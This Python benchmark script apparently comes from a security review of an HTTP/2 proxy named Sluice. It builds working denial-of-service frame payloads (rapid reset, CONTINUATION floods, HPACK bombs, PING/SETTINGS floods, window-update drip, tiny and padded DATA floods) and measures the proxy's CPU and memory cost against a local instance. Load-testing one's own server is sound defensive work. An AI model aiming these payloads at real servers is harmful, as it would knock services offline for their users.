#!/usr/bin/env python3
"""What a hostile client of HTTP/2 costs Sluice, beside what it costs the client.

Each attack's bytes are made beforehand, so that a client does nothing but encrypt and send them. CONNECTIONS
clients, one after the other, then all at a time for the memory. Prints a table; see README.md.
"""

import argparse
import pathlib
import select
import socket
import ssl
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "transfer"))
import transfer as base  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
# :method GET, :scheme https, :path /, :authority localhost, none of them into the table.
HEAD = b"\x82\x87\x84\x01\x09localhost"
POST = b"\x83\x87\x04\x07/upload\x01\x09localhost"
LARGE = b"\x82\x87\x04\x06/large\x01\x09localhost"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def rapid_reset():
    return b"".join(frame(HEADERS, 5, 2 * n + 1, HEAD) + frame(RST, 0, 2 * n + 1, b"\0\0\0\x08")
                    for n in range(100_000))


def continuation():
    """A field section that does not end."""
    return frame(HEADERS, 1, 1, HEAD) + frame(CONTINUATION, 0, 1, b"\0\1a\1b") * 100_000


def empty_continuation():
    return frame(HEADERS, 1, 1, HEAD) + frame(CONTINUATION, 0, 1) * 100_000


def bomb():
    """A field of 4,000 bytes goes into the table, and is named 16,000 times in each of many requests."""
    length = b"\x7f" + bytes([(3900 - 127) % 128 | 128, (3900 - 127) // 128])
    first = frame(HEADERS, 5, 1, HEAD + b"\x40\1a" + length + b"x" * 3900)
    return first + b"".join(frame(HEADERS, 5, 2 * n + 3, HEAD + b"\xbe" * 16_000) for n in range(100))


def malformed_bomb():
    """The same behind a field that is none: the rest is unpacked for the sake of the table."""
    length = b"\x7f" + bytes([(3900 - 127) % 128 | 128, (3900 - 127) // 128])
    first = frame(HEADERS, 5, 1, HEAD + b"\x40\1a" + length + b"x" * 3900)
    return first + b"".join(frame(HEADERS, 5, 2 * n + 3, HEAD + b"\x00\1A\0" + b"\xbe" * 16_000)
                            for n in range(300))


def crumbs():
    """Cookies of a byte, each of them one field."""
    return b"".join(frame(HEADERS, 5, 2 * n + 1, HEAD + b"\x0f\x11\1a" * 4000) for n in range(100))


def drip():
    """A window of nothing, opened byte by byte, for a response that is large."""
    return frame(HEADERS, 5, 1, LARGE) + frame(UPDATE, 0, 1, b"\0\0\0\1") * 50_000


def tiny_data():
    """A body whose frames have one byte each."""
    return frame(HEADERS, 4, 1, POST) + frame(DATA, 0, 1, b"x") * 60_000


def padded_data():
    """The same, with as much padding as there can be."""
    return frame(HEADERS, 4, 1, POST) + frame(DATA, 8, 1, b"\xffx" + bytes(255)) * 60_000


SETUP = {"drip": frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))}
ATTACKS = {
    "handshake and nothing more": lambda: b"",
    "rapid reset (F02)": rapid_reset,
    "CONTINUATION (F04)": continuation,
    "empty CONTINUATION (F04)": empty_continuation,
    "HPACK bomb (F05)": bomb,
    "HPACK bomb, malformed (F05)": malformed_bomb,
    "cookie crumbs (F06)": crumbs,
    "PING (F08)": lambda: frame(PING, 0, 0, b"12345678") * 100_000,
    "SETTINGS (F08)": lambda: frame(SETTINGS, 0, 0) * 100_000,
    "WINDOW_UPDATE drip, zero window (F06, F09)": drip,
    "one-byte DATA (F13)": tiny_data,
    "padded DATA (F14)": padded_data,
}


class Client:
    def __init__(self, port, context):
        plain = socket.create_connection(("127.0.0.1", port))
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket = context.wrap_socket(plain, server_hostname="localhost")
        self.socket.setblocking(False)
        self.sent = self.heard = 0
        self.is_over = False

    def attack(self, blob, seconds):
        """Sends until all is sent or Sluice ends it. What comes is read and thrown away."""
        rest, deadline = memoryview(blob), time.monotonic() + seconds
        while rest and not self.is_over and time.monotonic() < deadline:
            self.read()
            try:
                count = self.socket.send(rest[:16_384])
                rest, self.sent = rest[count:], self.sent + count
            except ssl.SSLWantWriteError:
                select.select([self.socket], [self.socket], [], 0.1)
            except ssl.SSLWantReadError:
                select.select([self.socket], [], [], 0.1)
            except OSError:
                self.is_over = True

    def read(self):
        try:
            while not self.is_over:
                part = self.socket.recv(65_536)
                self.heard += len(part)
                self.is_over = not part
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.is_over = True

    def settle(self, seconds):
        """Waits until Sluice has nothing more to do or say."""
        deadline = time.monotonic() + seconds
        while not self.is_over and time.monotonic() < deadline:
            if not select.select([self.socket], [], [], 0.05)[0]:
                return
            self.read()


def quiet(pid):
    """Waits until the process has nothing more to do."""
    last = base.seconds_of(pid)
    for _ in range(200):
        time.sleep(0.1)
        now = base.seconds_of(pid)
        if now - last < 0.0005:
            return now
        last = now
    return last


def measure(name, make, start, context, count):
    """The cost of each in time, one after the other, and in memory, all together: of a fresh Sluice, as
    freed memory that is used again would hide it."""
    first = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0) if "zero window" in name else b"")
    blob = PREFACE + first + make()
    proxy, port = start()
    Client(port, context).socket.close()
    before = quiet(proxy.pid)
    client_cpu, sent, over = time.process_time(), 0, 0
    for _ in range(count):
        client = Client(port, context)
        client.attack(blob, 10)
        client.settle(0.5)
        sent, over = sent + client.sent, over + client.is_over
        client.socket.close()
    client_cpu = time.process_time() - client_cpu
    sluice_cpu = quiet(proxy.pid) - before
    stop(proxy)

    proxy, port = start()
    Client(port, context).socket.close()
    quiet(proxy.pid)
    resident = base.memory(proxy.pid)[0]
    clients = [Client(port, context) for _ in range(count)]
    # In turns, so that all of them are at it together.
    for begin in range(0, len(blob), 65_536):
        for client in clients:
            if not client.is_over:
                client.attack(blob[begin:begin + 65_536], 1)
        if all(client.is_over for client in clients):
            break
    grown = base.memory(proxy.pid)[1] - resident
    for client in clients:
        client.socket.close()
    stop(proxy)
    print(f"| {name} | {sent / count / 1024:.0f} KiB | {'yes' if over == count else f'{over} of {count}'} "
          f"| {1000 * client_cpu / count:.2f} ms | {1000 * sluice_cpu / count:.2f} ms "
          f"| {sluice_cpu / client_cpu:.1f} | {grown / count:.0f} KiB |", flush=True)


def stop(proxy):
    if proxy.poll() is not None:
        sys.exit("Sluice has gone")
    proxy.terminate()
    proxy.wait()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--sluice", required=True, type=pathlib.Path)
    parser.add_argument("--connections", type=int, default=50)
    parser.add_argument("--only", default="", help="attacks whose name contains this")
    options = parser.parse_args()
    with base.site() as (folder, source_port):
        context = ssl.create_default_context(cafile=folder / "chain.pem")
        context.set_alpn_protocols(["h2"])

        def start():
            port = base.free_port()
            proxy = base.start_sluice(options.sluice.absolute(), folder, port, source_port)
            base.wait_for(port)
            return proxy, port

        print("| attack | sent | ended by Sluice | CPU of the client | CPU of Sluice | ratio "
              "| memory for each |")
        print("|---|---|---|---|---|---|---|")
        for title, make in ATTACKS.items():
            if options.only in title:
                measure(title, make, start, context, options.connections)


if __name__ == "__main__":
    main()
